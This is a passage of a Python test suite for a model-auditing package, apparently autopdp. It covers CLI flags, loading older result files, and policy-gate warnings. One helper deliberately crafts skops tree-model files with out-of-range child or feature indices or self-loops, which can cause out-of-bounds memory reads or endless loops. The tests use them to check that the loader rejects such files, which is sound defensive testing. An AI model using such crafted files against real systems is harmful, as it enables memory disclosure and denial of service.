    args = build_parser().parse_args(["report", "--model", "m.skops", "--data", "d.csv", "--target", "y", "--out", "o",
                                      "--keep-points"])
    assert _with_flags(AuditConfig(), args).keep_points
    args = build_parser().parse_args(["report", "--model", "m.skops", "--data", "d.csv", "--target", "y", "--out", "o"])
    assert not _with_flags(AuditConfig(), args).keep_points


def test_an_older_results_json_with_points_still_loads_and_draws_them(tmp_path):
    old = Audit.from_json(V1_FILE.read_text())
    assert "points" in old.data_summary and "occupancy" not in old.data_summary
    from autopdp.report.context import _data_overlay

    pair = old.results_2d[0].features
    overlay = _data_overlay(old, pair)
    assert list(overlay) == ["points"] and len(overlay["points"][0]) == len(old.data_summary["points"][pair[0]]) > 0
    assert plot_pd_2d(old.results_2d[0], **overlay) != plot_pd_2d(old.results_2d[0])
    old.to_html(tmp_path / "old.html")
    assert "Heatmap of the 2D partial dependence" in (tmp_path / "old.html").read_text()


def test_python_gate_warns_when_the_audits_decision_settings_are_not_the_policys():
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"a": rng.normal(size=100)})
    policy = {"features": {"a": {"monotonic": "increasing"}}}
    cfg = AuditConfig(pairs=False, grid_resolution=5, materiality=1000.0)
    loose = audit(lambda d: d["a"].to_numpy(), X, config=cfg)
    with pytest.warns(UserWarning, match=r"materiality = 1000.0 \(the policy's: 0.05\)"):
        gate(loose, policy)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        gate(loose, {**policy, "audit": {"materiality": 1000.0}})  # the policy itself set it: no warning


# ---------------------------------------------------------------- crafted tree arrays (skops' TreePredictor warning)
def _crafted(tmp_path, kind, how):
    """A saved tree model whose node arrays were edited after fitting, as a crafted file would have them."""
    import skops.io as sio
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier

    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(300, 3)), columns=list("abc"))
    y = (X.a + X.b > 0).astype(int)
    if kind == "hgb":
        model = HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y)
        nodes = model._predictors[2][0].nodes
        split = int(np.flatnonzero(nodes["is_leaf"] == 0)[0])
        if how == "child":
            nodes["right"][split] = 10 ** 6
        elif how == "loop":
            nodes["left"][split] = split  # the walk would never reach a leaf
        else:
            nodes["feature_idx"][split] = 99
    else:
        model = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
        tree = model.estimators_[1].tree_
        state = tree.__getstate__()
        nodes = state["nodes"].copy()
        if how == "child":
            nodes["left_child"][0] = 10 ** 6
        elif how == "loop":
            nodes["right_child"][0] = 0
        else:
            nodes["feature"][0] = 99
        state["nodes"] = nodes
        tree.__setstate__(state)
    path = tmp_path / f"{kind}-{how}.skops"
    sio.dump(model, path)
    return path


@pytest.mark.parametrize("kind", ["hgb", "forest"])
@pytest.mark.parametrize("how", ["child", "loop", "feature"])
def test_a_tree_whose_nodes_point_outside_it_is_refused_before_it_predicts(tmp_path, kind, how):
    """scikit-learn's compiled predict does not bounds-check the node arrays skops rebuilds: a child past the last
    node or a feature past the model's columns would read memory the tree does not own, a child that points back
    would loop for ever.  The trusted tree containers' arrays are checked at load time."""
    from autopdp.io.loading import load_model

    path = _crafted(tmp_path, kind, how)
    with pytest.raises(InputError, match=r"holds a tree whose node \d+ .*the file is damaged or crafted"):
        load_model(path)


def test_intact_tree_models_of_every_kind_load_with_their_arrays_checked(tmp_path):
    import skops.io as sio
    from sklearn.ensemble import (ExtraTreesRegressor, GradientBoostingClassifier, HistGradientBoostingRegressor,
                                  IsolationForest)

    from autopdp.io.loading import load_model
    from autopdp.io.tree_arrays import check_tree_arrays

    rng = np.random.default_rng(1)
    X = pd.DataFrame(rng.normal(size=(300, 3)), columns=list("abc"))
    y = X.a * X.b
    for model in (ExtraTreesRegressor(n_estimators=4).fit(X, y), GradientBoostingClassifier(n_estimators=4).fit(X, y > 0),
                  HistGradientBoostingRegressor(max_iter=4).fit(X, y), IsolationForest(n_estimators=4).fit(X)):
        sio.dump(model, tmp_path / "m.skops")
        loaded = load_model(tmp_path / "m.skops")
        assert check_tree_arrays(loaded) == 4
